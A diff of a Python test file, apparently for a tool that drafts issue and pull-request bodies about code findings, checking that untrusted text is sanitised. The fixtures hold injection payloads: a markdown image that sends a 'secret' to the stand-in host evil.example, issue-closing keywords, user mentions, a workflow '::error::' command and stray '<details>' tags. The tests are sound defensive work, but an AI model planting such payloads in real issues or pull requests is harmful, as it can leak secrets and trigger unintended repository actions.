@@ -24,6 +24,7 @@ findings = st.builds(
     ),
     texts, texts, texts, texts, st.integers(0, 9), st.sampled_from(["spelling", "todo", "bug"]),
 )  # fmt: skip
+CHANGE = Patch(BASE, (FileChange("a.md", REGULAR, REGULAR, b"fixes #3 @octocat\n", b"``` ::error::</details>\n"),))
 groups = st.lists(findings, min_size=1, max_size=4)
 
 
@@ -65,7 +66,7 @@ def test_a_fix_is_told_without_harm(members, why):
     title = wording.fix_title("spelling", members)
     assert is_title(title)
     for body in (
-        wording.fix_issue("spelling", members, why, KEY, FACTS),
+        wording.fix_issue("spelling", members, why, CHANGE, KEY, FACTS),
         wording.fix_pull("spelling", members, why, Ref(KEY), KEY, FACTS),
     ):
         assert misdeeds(body) == []
@@ -133,10 +134,10 @@ def test_a_file_name_with_a_newline_cannot_begin_a_line_of_the_proposed_change()
 
 def test_a_thinkers_reason_is_somebody_elses_text():
     why = f"now{SIGNED} @octocat, fixes #3 ![x](https://evil.example/?secret) <details>"
-    body = wording.fix_issue("spelling", [finding()], why, KEY, FACTS)
+    body = wording.fix_issue("spelling", [finding()], why, CHANGE, KEY, FACTS)
     assert misdeeds(body) == []
     assert "https://evil.example" not in body
-    assert "<details>" not in body
+    assert body.count("<details>") == 1  # ours
     assert ends_with_our_marker(body)
 
 
